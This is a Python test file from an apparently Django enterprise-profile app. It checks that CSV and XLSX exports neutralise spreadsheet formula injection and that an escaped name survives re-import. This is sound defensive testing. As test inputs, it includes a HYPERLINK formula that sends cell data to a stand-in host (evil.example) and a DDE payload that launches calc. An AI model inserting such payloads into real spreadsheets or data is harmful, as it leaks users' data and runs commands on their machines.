"""Exports cannot carry a formula: a user-typed text starting with = + - @ (tab, CR) stays text."""

import csv
import io

import pytest
from openpyxl import load_workbook

from enterprises import profile_files, spreadsheets
from enterprises.models import Enterprise
from enterprises.tests.factories import EnterpriseFactory

ATTACK = '=HYPERLINK("http://evil.example/?"&B2,"点击")'


@pytest.mark.parametrize("text", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_csv_cells_that_start_a_formula_get_an_apostrophe(text):
    assert spreadsheets.csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["上海甲有限公司", "a=b", 5, -5, None])
def test_other_cells_and_numbers_are_unchanged(value):
    assert spreadsheets.csv_cell(value) == value


@pytest.mark.django_db
def test_the_enterprise_exports_neutralise_a_formula_name(fact_catalog):
    EnterpriseFactory(name=ATTACK)
    rows = list(
        csv.reader(
            io.StringIO(profile_files.export_csv(Enterprise.objects.all(), year=2025).decode("utf-8-sig"))
        )
    )
    name_column = rows[0].index("企业名称")
    assert rows[1][name_column] == "'" + ATTACK

    workbook = load_workbook(io.BytesIO(profile_files.export_xlsx(Enterprise.objects.all(), year=2025)))
    cell = list(workbook.active.iter_rows(min_row=2, max_row=2))[0][name_column]
    assert cell.value == ATTACK and cell.data_type == "s"  # the exact text, as a string, not a formula


@pytest.mark.django_db
def test_an_exported_formula_name_round_trips_through_import(fact_catalog):
    enterprise = EnterpriseFactory(name="-上海减号有限公司")
    exported = profile_files.export_csv(Enterprise.objects.all(), year=2025)
    assert "'-上海减号有限公司" in exported.decode("utf-8-sig")
    Enterprise.objects.filter(pk=enterprise.pk).update(name="改过的名字")
    preview = profile_files.apply_import(exported, "export.csv", actor=None)
    assert preview.ok, [row.errors for row in preview.rows]
    enterprise.refresh_from_db()
    assert enterprise.name == "-上海减号有限公司"
